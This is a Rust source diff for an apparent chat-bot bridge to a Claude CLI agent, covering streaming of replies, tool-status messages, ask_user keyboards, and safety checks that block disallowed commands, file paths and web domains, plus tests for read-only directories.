+        if let Err(e) = self.model.cancel(self.run_id, CancelReason::Budget).await {
+            return Err(Error::External(format!(
+                "Failed to cancel run after budget exceeded: {e}"
+            )));
+        }
+        // A message of its own: tool statuses are deleted when the turn ends.
+        self.close_tool_group();
+        let msg = self.messages.budget_exceeded(spent, limit);
+        if let Err(e) = self.messenger.send_html(self.stream.target, &msg).await {
+            log_line!("[BUDGET] Failed to send the budget notice: {e}");
+        }
+        Ok(())
+    }
+
+    fn observe_session_id(&mut self, raw: &serde_json::Value) {
+        if self.observed_session.is_some() {
+            return;
+        }
+        let Some(id) = raw.get("session_id").and_then(|v| v.as_str()) else {
+            return;
+        };
+        self.observed_session = Some(SessionRef {
+            provider: ProviderKind::ClaudeCli,
+            id: id.to_string(),
+        });
+    }
+
+    /// Merge a `result` line into the turn's results (see [`MergedResult`]).
+    fn handle_result_raw(&mut self, raw: &serde_json::Value) {
+        self.results.push(raw);
+        self.final_result_text = self.results.text().map(str::to_string);
+        self.last_usage = self.results.usage().cloned();
+        self.result_cost_usd = self.results.cost_usd(&self.pricing);
+
+        // Context size is a per-request reading, so it comes from this line alone.
+        if is_context_exhausted_result(raw) {
+            self.context_pressure = Some(ContextPressure::Exhausted);
+        } else if let Some(u) = raw.get("usage").map(TokenUsage::from_json) {
+            self.note_context_size(self.context_base_tokens + u.input_tokens + u.output_tokens);
+        }
+    }
+
+    async fn handle_compaction(&mut self, raw: &serde_json::Value) -> Result<()> {
+        self.context_compacted = true;
+        self.close_tool_group();
+        let pre_tokens = raw
+            .get("compact_metadata")
+            .and_then(|m| m.get("pre_tokens"))
+            .and_then(|v| v.as_u64());
+        let msg = match pre_tokens {
+            Some(n) => self.messages.context_compacted_was(&format_token_count(n)),
+            None => self.messages.context_compacted().to_string(),
+        };
+        // Informational only; the run carries on either way.
+        let _ = self.messenger.send_html(self.stream.target, &msg).await;
+        Ok(())
+    }
+
+    async fn handle_tool_result_raw(&mut self, raw: &serde_json::Value) -> Result<()> {
+        let Some(content) = raw
+            .get("message")
+            .and_then(|m| m.get("content"))
+            .and_then(|c| c.as_array())
+        else {
+            return Ok(());
+        };
+
+        for block in content {
+            if block.get("type").and_then(|t| t.as_str()) != Some("tool_result") {
+                continue;
+            }
+            let Some(id) = block.get("tool_use_id").and_then(|v| v.as_str()) else {
+                continue;
+            };
+            self.typing.tool_finished(id);
+            let grouped = self
+                .tool_group
+                .as_ref()
+                .is_some_and(|g| g.pending.iter().any(|p| p == id));
+            let status = if grouped {
+                None
+            } else {
+                let Some(entry) = self.tool_status_messages.remove(id) else {
+                    continue;
+                };
+                Some(entry)
+            };
+            if !self.messenger.capabilities().supports_edit {
+                continue;
+            }
+            let is_error = block
+                .get("is_error")
+                .and_then(|v| v.as_bool())
+                .unwrap_or(false);
+            let output = tool_result_text(block.get("content"));
+            let outcome = format_tool_outcome(
+                self.cfg.status_theme,
+                is_error,
+                &output,
+                self.cfg.show_tool_outputs,
+            );
+            let (msg, html) = match (status, self.tool_group.as_mut()) {
+                (Some((msg, status)), _) => (msg, format!("{status}\n{outcome}")),
+                (None, Some(group)) => {
+                    group.pending.retain(|p| p != id);
+                    group.record_outcome(is_error, outcome);
+                    (group.msg, group.html())
+                }
+                (None, None) => continue,
+            };
+            // Best-effort: the status message may already be gone.
+            let _ = self.messenger.edit_html(msg, &html).await;
+        }
+        Ok(())
+    }
+
+    async fn handle_assistant_raw(&mut self, raw: &serde_json::Value) -> Result<()> {
+        let Some(content) = raw
+            .get("message")
+            .and_then(|m| m.get("content"))
+            .and_then(|c| c.as_array())
+        else {
+            return Ok(());
+        };
+
+        let all_text = content
+            .iter()
+            .all(|b| b.get("type").and_then(|t| t.as_str()) == Some("text"));
+
+        self.close_tool_group_before(content);
+        if all_text {
+            let snapshot = content
+                .iter()
+                .filter_map(|b| b.get("text").and_then(|t| t.as_str()))
+                .collect::<String>();
+            self.handle_text_snapshot(&snapshot).await?;
+            return Ok(());
+        }
+
+        for block in content {
+            let Some(ty) = block.get("type").and_then(|t| t.as_str()) else {
+                continue;
+            };
+            match ty {
+                "thinking" => {
+                    if let Some(t) = block.get("thinking").and_then(|t| t.as_str()) {
+                        self.stream
+                            .on_status(
+                                &self.cfg,
+                                self.messenger.as_ref(),
+                                StatusType::Thinking,
+                                t,
+                                None,
+                            )
+                            .await?;
+                    }
+                }
+                "tool_use" => {
+                    self.handle_tool_use(block).await?;
+                }
+                "text" => {
+                    if let Some(t) = block.get("text").and_then(|t| t.as_str()) {
+                        self.append_text_delta(t).await?;
+                    }
+                }
+                _ => {}
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Text or thinking separates tool calls: later calls start a new status message.
+    fn close_tool_group_before(&mut self, content: &[serde_json::Value]) {
+        let shows_content = content.iter().any(|b| {
+            ["text", "thinking"].iter().any(|k| {
+                b.get("type").and_then(|t| t.as_str()) == Some(*k)
+                    && b.get(*k)
+                        .and_then(|t| t.as_str())
+                        .is_some_and(|t| !t.trim().is_empty())
+            })
+        });
+        if shows_content {
+            self.close_tool_group();
+        }
+    }
+
+    async fn handle_text_snapshot(&mut self, snapshot: &str) -> Result<()> {
+        match self.text.push_snapshot(snapshot) {
+            SnapshotDiff::Unchanged => Ok(()),
+            SnapshotDiff::Extends(_) => self.emit_text().await,
+            SnapshotDiff::Revised(tail) => {
+                log_line!(
+                    "[STREAM] Snapshot revised the streamed text; replaced its tail with {} bytes",
+                    tail.len()
+                );
+                self.emit_text().await
+            }
+            SnapshotDiff::NewSegment { closed, text } => {
+                log_line!(
+                    "[STREAM] Snapshot unrelated to the streamed text; new segment of {} bytes",
+                    text.len()
+                );
+                self.close_text_segment(closed).await?;
+                self.emit_text().await
+            }
+        }
+    }
+
+    /// Show `closed` (from [`TextSegments::end_segment`]) as a finished segment.
+    async fn close_text_segment(&mut self, closed: Option<(u32, String)>) -> Result<()> {
+        if let Some((segment_id, text)) = closed {
+            self.stream
+                .on_status(
+                    &self.cfg,
+                    self.messenger.as_ref(),
+                    StatusType::SegmentEnd,
+                    &text,
+                    Some(segment_id),
+                )
+                .await?;
+            self.last_text_emit = None;
+        }
+        Ok(())
+    }
+
+    async fn append_text_delta(&mut self, text: &str) -> Result<()> {
+        self.text.push(text);
+        self.emit_text().await
+    }
+
+    /// Show the current segment unless it is still tiny or was updated too recently.
+    async fn emit_text(&mut self) -> Result<()> {
+        let now = Instant::now();
+        let throttled = self
+            .last_text_emit
+            .is_some_and(|t| now.duration_since(t) <= self.cfg.streaming_throttle);
+        let long_enough = self.text.segment_text().len() > 20;
+        if long_enough && throttled {
+            self.metrics.incr(Counter::ThrottleSkips, 1);
+        }
+
+        if long_enough && !throttled {
+            self.stream
+                .on_status(
+                    &self.cfg,
+                    self.messenger.as_ref(),
+                    StatusType::Text,
+                    self.text.segment_text(),
+                    Some(self.text.segment_id()),
+                )
+                .await?;
+            self.last_text_emit = Some(now);
+        }
+
+        Ok(())
+    }
+
+    /// Audit a refused tool call and send the owner alert, if any (best-effort).
+    async fn report_block(&self, kind: BlockKind, tool: &str, detail: &str) {
+        let Some(monitor) = &self.security else {
+            return;
+        };
+        let block = SecurityBlock {
+            kind,
+            tool: tool.to_string(),
+            detail: detail.to_string(),
+        };
+        monitor.record(self.requester.as_ref(), &block);
+        let alert = monitor.alert(
+            self.requester.as_ref(),
+            &block,
+            self.stream.target,
+            &self.cfg,
+        );
+        if let Some((owner, html)) = alert {
+            if let Err(e) = self.messenger.send_html(owner, &html).await {
+                log_line!("[SECURITY] Failed to send block alert: {e}");
+            }
+        }
+    }
+
+    /// A Bash call that skipped `BASH_SANDBOX_WRAPPER`: flagged in the tool status, and with
+    /// [`SandboxEnforcement::Block`] refused like an unsafe command.
+    async fn handle_unwrapped_command(
+        &mut self,
+        tool: &str,
+        cmd: &str,
+        reason: &str,
+    ) -> Result<()> {
+        let block = self.cfg.bash_sandbox_enforcement == SandboxEnforcement::Block;
+        if block {
+            if let Err(e) = self
+                .model
+                .cancel(self.run_id, CancelReason::SafetyBlock)
+                .await
+            {
+                return Err(Error::External(format!(
+                    "Failed to cancel run after blocking unsandboxed command: {e}"
+                )));
+            }
+        } else {
+            log_line!("[SECURITY] Unsandboxed command allowed: {reason}");
+        }
+        let icon = if block {
+            self.cfg.status_theme.blocked
+        } else {
+            self.cfg.status_theme.warning
+        };
+        let msg = format!("{icon} {}", escape_html(reason));
+        let _ = self
+            .stream
+            .on_status(
+                &self.cfg,
+                self.messenger.as_ref(),
+                StatusType::Tool,
+                &msg,
+                None,
+            )
+            .await;
+        if !block {
+            return Ok(());
+        }
+        self.report_block(BlockKind::Sandbox, tool, cmd).await;
+        Err(Error::Security(format!(
+            "Unsandboxed command blocked: {reason}"
+        )))
+    }
+
+    /// Tool status for a refused call; the catalog's block notices carry the theme's glyph.
+    async fn show_block(&mut self, msg: &str) {
+        let _ = self
+            .stream
+            .on_status(
+                &self.cfg,
+                self.messenger.as_ref(),
+                StatusType::Tool,
+                msg,
+                None,
+            )
+            .await;
+    }
+
+    async fn handle_tool_use(&mut self, block: &serde_json::Value) -> Result<()> {
+        let tool_name = block.get("name").and_then(|v| v.as_str()).unwrap_or("Tool");
+        let tool_input = block.get("input").unwrap_or(&serde_json::Value::Null);
+
+        // Role check: a read-only user's run may not write or run commands at all.
+        if let Some(capability) = tool_capability(tool_name) {
+            if !self.role.allows(capability) {
+                if let Err(e) = self
+                    .model
+                    .cancel(self.run_id, CancelReason::SafetyBlock)
+                    .await
+                {
+                    return Err(Error::External(format!(
+                        "Failed to cancel run after blocking {tool_name} for read-only access: {e}"
+                    )));
+                }
+                self.show_block(&self.messages.blocked_needs_full_access(tool_name))
+                    .await;
+                self.report_block(BlockKind::Role, tool_name, tool_name)
+                    .await;
+                return Err(Error::Security(format!(
+                    "Read-only access: {tool_name} blocked"
+                )));
+            }
+        }
+
+        // Tool lists: the CLI skips --allowedTools when it auto-approves every call.
+        let command = tool_input.get("command").and_then(|v| v.as_str());
+        if let Some(reason) = self.tool_lists.check(tool_name, command, &self.paths) {
+            if let Err(e) = self
+                .model
+                .cancel(self.run_id, CancelReason::SafetyBlock)
+                .await
+            {
+                return Err(Error::External(format!(
+                    "Failed to cancel run after blocking {tool_name} by the tool lists: {e}"
+                )));
+            }
+            self.show_block(&self.messages.blocked(&reason)).await;
+            self.report_block(BlockKind::ToolList, tool_name, command.unwrap_or(tool_name))
+                .await;
+            return Err(Error::Security(format!("Tool list: {reason}")));
+        }
+
+        // Safety check for Bash.
+        if tool_name.eq_ignore_ascii_case("Bash") {
+            let cmd = tool_input
+                .get("command")
+                .and_then(|v| v.as_str())
+                .unwrap_or("");
+            let (ok, reason) = check_command_safety(
+                cmd,
+                &self.cfg.blocked_patterns,
+                &self.cfg.allowed_command_prefixes,
+                &self.paths,
+            );
+            if !ok {
+                if let Err(e) = self
+                    .model
+                    .cancel(self.run_id, CancelReason::SafetyBlock)
+                    .await
+                {
+                    return Err(Error::External(format!(
+                        "Failed to cancel run after blocking unsafe command: {e}"
+                    )));
+                }
+                self.show_block(&self.messages.blocked(&reason)).await;
+                self.report_block(BlockKind::Command, tool_name, cmd).await;
+                return Err(Error::Security(format!("Unsafe command blocked: {reason}")));
+            }
+            if let Some(wrapper) = &self.cfg.bash_sandbox_wrapper {
+                let (ok, reason) =
+                    check_sandbox_wrapper(cmd, wrapper, self.paths.home_dir.as_deref());
+                if !ok {
+                    self.handle_unwrapped_command(tool_name, cmd, &reason)
+                        .await?;
+                }
+            }
+        }
+
+        // Safety check for file operations: reads plus every tool that edits files.
+        let is_read = tool_name.eq_ignore_ascii_case("Read");
+        if is_read || tool_capability(tool_name) == Some(Capability::EditFiles) {
+            let path_field = if tool_name.eq_ignore_ascii_case("NotebookEdit") {
+                "notebook_path"
+            } else {
+                "file_path"
+            };
+            let file_path = tool_input
+                .get(path_field)
+                .and_then(|v| v.as_str())
+                .unwrap_or("");
+
+            let allowed = if is_read {
+                self.paths.is_read_allowed(file_path)
+            } else {
+                self.paths.is_write_allowed(file_path)
+            };
+            if !file_path.is_empty() && !allowed {
+                if let Err(e) = self
+                    .model
+                    .cancel(self.run_id, CancelReason::SafetyBlock)
+                    .await
+                {
+                    return Err(Error::External(format!(
+                        "Failed to cancel run after blocking file access: {e}"
+                    )));
+                }
+                let read_only = self.paths.is_read_only(file_path);
+                let msg = if read_only {
+                    self.messages.access_denied_read_only(file_path)
+                } else {
+                    self.messages.access_denied(file_path)
+                };
+                self.show_block(&msg).await;
+                self.report_block(BlockKind::Path, tool_name, file_path)
+                    .await;
+                if read_only {
+                    return Err(Error::Security(format!(
+                        "Write to read-only path blocked: {file_path}"
+                    )));
+                }
+                return Err(Error::Security(format!("File access blocked: {file_path}")));
+            }
+        }
+
+        // Domain policy for web tools.
+        let web_check = if tool_name.eq_ignore_ascii_case("WebFetch") {
+            let url = tool_input.get("url").and_then(|v| v.as_str()).unwrap_or("");
+            Some(("fetch", self.domains.check_url(url)))
+        } else if tool_name.eq_ignore_ascii_case("WebSearch") {
+            let query = tool_input
+                .get("query")
+                .and_then(|v| v.as_str())
+                .unwrap_or("");
+            let allowed: Vec<&str> = tool_input
+                .get("allowed_domains")
+                .and_then(|v| v.as_array())
+                .map(|a| a.iter().filter_map(|d| d.as_str()).collect())
+                .unwrap_or_default();
+            Some(("search", self.domains.check_search(query, &allowed)))
+        } else {
+            None
+        };
+        if let Some((action, Err(host))) = web_check {
+            if let Err(e) = self
+                .model
+                .cancel(self.run_id, CancelReason::SafetyBlock)
+                .await
+            {
+                return Err(Error::External(format!(
+                    "Failed to cancel run after blocking web {action}: {e}"
+                )));
+            }
+            self.show_block(&self.messages.blocked_web(action, &host))
+                .await;
+            self.report_block(BlockKind::Domain, tool_name, &host).await;
+            return Err(Error::Security(format!("Web {action} blocked: {host}")));
+        }
+
+        // Repeated in partial-message snapshots and in replays after a resume. Checked after the
+        // safety checks so a replayed unsafe call is still refused.
+        if let Some(id) = block.get("id").and_then(|v| v.as_str()) {
+            if !self.replay_guard().first_tool_use(id) {
+                return Ok(());
+            }
+        }
+
+        self.tools_used.push(tool_name.to_string());
+        // A call without an id can never be matched to its result, so it can't pause typing.
+        if let Some(id) = block.get("id").and_then(|v| v.as_str()) {
+            self.typing.tool_started(id);
+        }
+
+        // Segment ends when tool starts.
+        let closed = self.text.end_segment();
+        self.close_text_segment(closed).await?;
+
+        // ask_user MCP tool: don't spam tool status; instead send inline keyboard if request file is present.
+        // In sync mode our MCP server holds the call open until the answer, so the run goes on.
+        if self.cfg.ask_user_sync && tool_name.starts_with("mcp__ask-user") {
+            wait_for_ask_user_request(&*self.messenger, &self.cfg, self.stream.target).await?;
+            return Ok(());
+        }
+        if is_ask_user_tool(tool_name) {
+            self.ask_user_triggered = true;
+            self.typing.stop();
+
+            // The MCP server may still be cold-starting; wait for its request file.
+            let last_err =
+                match wait_for_ask_user_request(&*self.messenger, &self.cfg, self.stream.target)
+                    .await
+                {
+                    Ok(sent) => {
+                        self.ask_user_buttons_sent = sent;
+                        None
+                    }
+                    Err(e) => Some(e),
+                };
+
+            // Stop the current run so the bot can wait for the user's callback response.
+            if let Err(e) = self.model.cancel(self.run_id, CancelReason::AskUser).await {
+                if let Some(prev) = last_err {
+                    return Err(Error::External(format!(
+                        "Failed to cancel run after ask_user trigger: {e} (ask_user file handling error: {prev})"
+                    )));
+                }
+                return Err(Error::External(format!(
+                    "Failed to cancel run after ask_user trigger: {e}"
+                )));
+            }
+
+            if let Some(e) = last_err {
+                return Err(e);
+            }
+
+            return Ok(());
+        }
+
+        let id = block.get("id").and_then(|v| v.as_str()).unwrap_or_default();
+        let theme = self.cfg.status_theme;
+        let parts = tool_status_parts(theme, tool_name, tool_input);
+        if let Some((action, subject)) = &parts {
+            if self.extend_tool_group(action, subject, id).await {
+                return Ok(());
+            }
+        }
+        self.close_tool_group();
+
+        let tool_display = format_tool_status(theme, tool_name, tool_input);
+        self.stream
+            .on_status(
+                &self.cfg,
+                self.messenger.as_ref(),
+                StatusType::Tool,
+                &tool_display,
+                None,
+            )
+            .await?;
+
+        let Some(&msg) = self.stream.tool_messages.last() else {
+            return Ok(());
+        };
+        match parts {
+            Some((action, subject)) if self.can_group_tools() => {
+                self.tool_group = Some(ToolGroup {
+                    msg,
+                    theme,
+                    action,
+                    subjects: vec![subject],
+                    pending: vec![id.to_string()],
+                    outcome: None,
+                    updated: Instant::now(),
+                });
+            }
+            _ if !id.is_empty() => {
+                self.tool_status_messages
+                    .insert(id.to_string(), (msg, tool_display));
+            }
+            _ => {}
+        }
+
+        Ok(())
+    }
+
+    fn can_group_tools(&self) -> bool {
+        !self.cfg.tool_status_coalesce.is_zero() && self.messenger.capabilities().supports_edit
+    }
+
+    /// Fold this call into the open group when it repeats the group's action within the
+    /// coalescing window; `false` if it needs a status message of its own.
+    async fn extend_tool_group(&mut self, action: &ToolAction, subject: &str, id: &str) -> bool {
+        let now = Instant::now();
+        let Some(mut group) = self.tool_group.clone() else {
+            return false;
+        };
+        if group.action != *action
+            || now.duration_since(group.updated) > self.cfg.tool_status_coalesce
+        {
+            return false;
+        }
+        if !group.subjects.iter().any(|s| s == subject) {
+            group.subjects.push(subject.to_string());
+        }
+        if !id.is_empty() {
+            group.pending.push(id.to_string());
+        }
+        group.updated = now;
+        // A failed edit (e.g. the message was deleted) leaves the call to a message of its own.
+        if self
+            .stream
+            .edit_tool_message(self.messenger.as_ref(), group.msg, &group.html())
+            .await
+            .is_err()
+        {
+            return false;
+        }
+        self.tool_group = Some(group);
+        true
+    }
+
+    /// Stop folding calls into the open group. Results still pending are appended to its
+    /// message as for a lone status.
+    fn close_tool_group(&mut self) {
+        let Some(group) = self.tool_group.take() else {
+            return;
+        };
+        let status = group.status();
+        for id in group.pending {
+            self.tool_status_messages
+                .insert(id, (group.msg, status.clone()));
+        }
+    }
+
+    /// Finalize the UI (last segment, completion or shutdown notice) and return the turn result.
+    pub async fn finish(mut self) -> Result<TurnOutput> {
+        self.metrics.incr(Counter::Turns, 1);
+        if self.cfg.debug_timings {
+            self.stream.set_completion_note(
+                self.cfg
+                    .status_theme
+                    .render(&self.metrics.debug_line())
+                    .into_owned(),
+            );
+        }
+
+        // If ask_user was triggered, return early: user will respond via callback, and that
+        // turn continues these messages.
+        if self.ask_user_triggered {
+            if let Some((segment_id, text)) = self.text.end_segment() {
+                self.stream
+                    .on_status(
+                        &self.cfg,
+                        self.messenger.as_ref(),
+                        StatusType::SegmentEnd,
+                        &text,
+                        Some(segment_id),
+                    )
+                    .await?;
+            }
+            self.stream
+                .suspend(&self.cfg, self.messenger.as_ref())
+                .await?;
+            let suspended = SuspendedStream {
+                stream: self.stream,
+                next_segment_id: self.text.segment_id(),
+            };
+            return Ok(TurnOutput {
+                text: if self.ask_user_buttons_sent {
+                    "[Waiting for user selection]".to_string()
+                } else {
+                    "[Waiting for user selection (no request file found yet)]".to_string()
+                },
+                segments: Vec::new(),
+                waiting_for_user: true,
+                usage: self.last_usage,
+                session: self.observed_session,
+                budget_exceeded: false,
+                tools: self.tools_used,
+                context_compacted: self.context_compacted,
+                context_pressure: None,
+                suspended: Some(suspended),
+                provider_error: None,
+            });
+        }
+
+        if !self.text.segment_text().is_empty() {
+            self.stream
+                .on_status(
+                    &self.cfg,
+                    self.messenger.as_ref(),
+                    StatusType::SegmentEnd,
+                    self.text.segment_text(),
+                    Some(self.text.segment_id()),
+                )
+                .await?;
+        }
+
+        if self.shutting_down {
+            self.stream
+                .abort_progress(self.messenger.as_ref(), self.messages.shutdown_notice())
+                .await?;
+        } else {
+            self.stream
+                .on_status(
+                    &self.cfg,
+                    self.messenger.as_ref(),
+                    StatusType::Done,
+                    "",
+                    None,
+                )
+                .await?;
+            if self.plan_review
+                && !self.budget_exceeded
+                && self.messenger.capabilities().supports_inline_keyboards
+            {
+                self.messenger
+                    .send_inline_keyboard(
+                        self.stream.target,
+                        self.messages.plan_ready(),
+                        review_keyboard(self.cfg.status_theme),
+                    )
+                    .await?;
+            }
+        }
+
+        // Compaction already freed the context a near-limit reading was about.
+        if self.context_compacted {
+            self.context_pressure = self
+                .context_pressure
+                .filter(|p| *p == ContextPressure::Exhausted);
+        }
+        if let Some(pressure) = self.context_pressure.filter(|_| !self.context_warned) {
+            log_line!("[CTX] warning about context pressure: {pressure:?}");
+            // Informational; the turn's own output is already out.
+            let _ = self
+                .messenger
+                .send_html(self.stream.target, self.messages.context_limit_warning())
+                .await;
+        }
+
+        let provider_error = self.provider_error();
+        let (joined, segments) = if !self.text.is_empty() {
+            (self.text.joined(), self.text.segments())
+        } else {
+            let text = self
+                .final_result_text
+                .unwrap_or_else(|| "No response from Claude.".to_string());
+            (text.clone(), vec![text])
+        };
+
+        Ok(TurnOutput {
+            text: joined,
+            segments,
+            waiting_for_user: false,
+            usage: self.last_usage,
+            session: self.observed_session,
+            budget_exceeded: self.budget_exceeded,
+            tools: self.tools_used,
+            context_compacted: self.context_compacted,
+            context_pressure: self.context_pressure,
+            suspended: None,
+            provider_error,
+        })
+    }
+}
+
+fn is_ask_user_tool(tool_name: &str) -> bool {
+    tool_name.starts_with("mcp__ask-user") || tool_name == "AskUserQuestion"
+}
+
+const ASK_USER_POLL_INTERVAL: Duration = Duration::from_millis(100);
+
+/// Poll `cfg.temp_dir` until a pending ask_user request for this chat shows up (and is sent)
+/// or `cfg.ask_user_wait_timeout` elapses.
+async fn wait_for_ask_user_request(
+    messenger: &dyn MessagingPort,
+    cfg: &Config,
+    target: ChatTarget,
+) -> Result<bool> {
+    let deadline = Instant::now() + cfg.ask_user_wait_timeout;
+    loop {
+        if check_pending_ask_user_requests(messenger, cfg, target).await? {
+            return Ok(true);
+        }
+        if Instant::now() >= deadline {
+            return Ok(false);
+        }
+        tokio::time::sleep(ASK_USER_POLL_INTERVAL).await;
+    }
+}
+
+pub(crate) async fn check_pending_ask_user_requests(
+    messenger: &dyn MessagingPort,
+    cfg: &Config,
+    target: ChatTarget,
+) -> Result<bool> {
+    let Ok(rd) = std::fs::read_dir(&cfg.temp_dir) else {
+        return Ok(false);
+    };
+
+    let mut any_sent = false;
+    for ent in rd.flatten() {
+        let name = ent.file_name().to_string_lossy().to_string();
+        if !name.starts_with("ask-user-") || !name.ends_with(".json") {
+            continue;
+        }
+
+        let path = ent.path();
+        let Ok(txt) = std::fs::read_to_string(&path) else {
+            continue;
+        };
+        let Ok(mut v) = serde_json::from_str::<serde_json::Value>(&txt) else {
+            continue;
+        };
+
+        if v.get("status").and_then(|s| s.as_str()) != Some("pending") {
+            continue;
+        }
+        let file_chat = v
+            .get("chat_id")
+            .and_then(|c| {
+                if let Some(n) = c.as_i64() {
+                    return Some(n);
+                }
+                c.as_str().and_then(|s| s.parse::<i64>().ok())
+            })
+            .unwrap_or_default();
+        let file_thread = v
+            .get("thread_id")
+            .and_then(|t| {
+                t.as_i64()
+                    .or_else(|| t.as_str().and_then(|s| s.parse().ok()))
+            })
+            .map(|t| t as i32);
+        if file_chat != target.chat_id.0 || file_thread != target.thread_id {
+            continue;
+        }
+        if !is_allowed_request_chat(file_chat, cfg) {
+            log_line!(
+                "[STREAM] Ignoring ask_user request {} for chat {file_chat}: not an allowed chat",
+                path.display()
+            );
+            continue;
+        }
+
+        let question = v
+            .get("question")
+            .and_then(|q| q.as_str())
+            .unwrap_or("Please choose:");
+        let request_id = v.get("request_id").and_then(|r| r.as_str()).unwrap_or("");
+        let options = v
+            .get("options")
+            .and_then(|o| o.as_array())
+            .map(|arr| {
+                arr.iter()
+                    .filter_map(|x| x.as_str().map(|s| s.to_string()))
+                    .collect::<Vec<String>>()
+            })
+            .unwrap_or_default();
+
+        if request_id.is_empty() || options.is_empty() {
+            continue;
+        }
+
+        // A sync request's server waits on its own file, so it always gets its own keyboard.
+        let sync = v.get("sync").and_then(|s| s.as_bool()) == Some(true);
+        let duplicate = (!sync)
+            .then(|| find_unanswered_duplicate(&cfg.temp_dir, target, question, &options))
+            .flatten();
+        if let Some(original) = duplicate {
+            log_line!(
+                "[STREAM] ask_user request {request_id} repeats {}; not sending another keyboard",
+                original.display()
+            );
+            v["status"] = serde_json::Value::from(STATUS_DUPLICATE);
+            std::fs::write(&path, serde_json::to_string(&v)?)?;
+            any_sent = true;
+            continue;
+        }
+
+        if messenger.capabilities().supports_inline_keyboards {
+            let keyboard = OptionsKeyboard::new(request_id, &options)
+                .theme(cfg.status_theme)
+                .max_label_len(cfg.button_label_max_length)
+                .build();
+            messenger
+                .send_inline_keyboard(
+                    target,
+                    &format!("{} {}", cfg.status_theme.question, escape_html(question)),
+                    keyboard,
+                )
+                .await?;
+        } else {
+            messenger
+                .send_html(
+                    target,
+                    &render_text_options(cfg.status_theme, question, &options),
+                )
+                .await?;
+            v["answer_mode"] = serde_json::Value::from(ANSWER_MODE_TEXT);
+        }
+
+        // Mark as sent.
+        v["status"] = serde_json::Value::String("sent".to_string());
+        std::fs::write(&path, serde_json::to_string(&v)?)?;
+        if sync && v.get("answer_mode").and_then(|m| m.as_str()) == Some(ANSWER_MODE_TEXT) {
+            track_sync_text_request(target.chat_id.0, &path);
+        }
+        any_sent = true;
+    }
+
+    Ok(any_sent)
+}
+
+/// Flatten `tool_result.content` (a string or an array of `{type: "text"}` blocks).
+fn tool_result_text(content: Option<&serde_json::Value>) -> String {
+    match content {
+        Some(serde_json::Value::String(s)) => s.clone(),
+        Some(serde_json::Value::Array(parts)) => parts
+            .iter()
+            .filter_map(|p| p.get("text").and_then(|t| t.as_str()))
+            .collect::<Vec<_>>()
+            .join("\n"),
+        _ => String::new(),
+    }
+}
+
+/// An error result whose message says the prompt no longer fits the context window.
+fn is_context_exhausted_result(raw: &serde_json::Value) -> bool {
+    let is_error = raw.get("is_error").and_then(|v| v.as_bool()) == Some(true)
+        || raw
+            .get("subtype")
+            .and_then(|v| v.as_str())
+            .is_some_and(|s| s.starts_with("error"));
+    if !is_error {
+        return false;
+    }
+    let errors = raw
+        .get("errors")
+        .and_then(|v| v.as_array())
+        .into_iter()
+        .flatten()
+        .filter_map(|e| e.as_str());
+    raw.get("result")
+        .and_then(|v| v.as_str())
+        .into_iter()
+        .chain(errors)
+        .any(|text| {
+            let text = text.to_ascii_lowercase();
+            [
+                "prompt is too long",
+                "context length",
+                "context window",
+                "maximum context",
+            ]
+            .iter()
+            .any(|needle| text.contains(needle))
+        })
+}
+
+fn parse_usage(v: &serde_json::Value) -> Option<TokenUsage> {
+    let get = |k: &str| v.get(k).and_then(|x| x.as_u64()).unwrap_or(0);
+    Some(TokenUsage {
+        input_tokens: get("input_tokens"),
+        output_tokens: get("output_tokens"),
+        cache_read_input_tokens: get("cache_read_input_tokens"),
+        cache_creation_input_tokens: get("cache_creation_input_tokens"),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::messaging::test_support::{Call, Op, RecordingMessenger, ScriptedModel};
+    use crate::model::types::is_connection_error;
+    use serde_json::json;
+
+    fn test_config() -> Arc<Config> {
+        Arc::new(Config {
+            provider_error_patterns: crate::model::types::ProviderErrorPatterns::defaults(),
+            ..Config::for_tests()
+        })
+    }
+
+    fn assistant_raw(session_id: &str, blocks: Vec<serde_json::Value>) -> serde_json::Value {
+        json!({
+          "session_id": session_id,
+          "message": { "content": blocks }
+        })
+    }
+
+    fn test_pipeline(
+        cfg: Arc<Config>,
+        model: Arc<dyn ModelClient>,
+        messenger: Arc<dyn MessagingPort>,
+        target: ChatTarget,
+    ) -> EventPipeline {
+        let paths = PathPolicy::from_config(&cfg);
+        EventPipeline::new(cfg, model, RunId::next(), messenger, paths, target)
+    }
+
+    #[tokio::test]
+    async fn read_only_dir_allows_reads_and_blocks_edits() {
+        let ro = std::path::PathBuf::from(format!("/tmp/ctb-ro-{}", std::process::id()));
+        std::fs::create_dir_all(&ro).unwrap();
+        let file = ro.join("settings.json").to_string_lossy().to_string();
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let paths = PathPolicy {
+            read_only_paths: vec![ro.clone()],
+            ..PathPolicy::from_config(&cfg)
+        };
+        let mut p = EventPipeline::new(
+            cfg,
+            model.clone(),
+            RunId::next(),
+            messenger.clone(),
+            paths,
+            crate::domain::ChatId(1).into(),
+        );
+        let call = |name: &str| ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","id":name,"name":name,"input":{"file_path":file}})],
+            ),
+        };
+
+        p.handle_event(call("Read")).await.unwrap();
+        assert_eq!(model.cancels().len(), 0);
+        let err = p.handle_event(call("Edit")).await.unwrap_err();
+        assert!(err.to_string().contains("read-only"), "{err}");
+        assert_eq!(model.cancels().len(), 1);
+        messenger.assert_sent_containing("🔒 Access denied (read-only)");
+        let _ = std::fs::remove_dir_all(&ro);
+    }
+
+    #[tokio::test]
+    async fn read_only_dir_blocks_multi_edit_and_notebook_edit() {
+        let ro = std::path::PathBuf::from(format!("/tmp/ctb-ro-nb-{}", std::process::id()));
+        std::fs::create_dir_all(&ro).unwrap();
+        let file = ro.join("notes.ipynb").to_string_lossy().to_string();
+        // Block notices follow the chat's language.
+        let cfg = Arc::new(Config {
+            bot_locale: crate::i18n::Locale::It,
+            ..(*test_config()).clone()
+        });
+        for (name, input) in [
+            ("MultiEdit", json!({"file_path": file, "edits": []})),
+            (
+                "NotebookEdit",
+                json!({"notebook_path": file, "new_source": "x"}),
+            ),
+        ] {
+            let model = Arc::new(ScriptedModel::new());
+            let messenger = Arc::new(RecordingMessenger::new());
+            let paths = PathPolicy {
+                read_only_paths: vec![ro.clone()],
+                ..PathPolicy::from_config(&cfg)
+            };
+            let mut p = EventPipeline::new(
+                cfg.clone(),
+                model.clone(),
+                RunId::next(),
+                messenger.clone(),
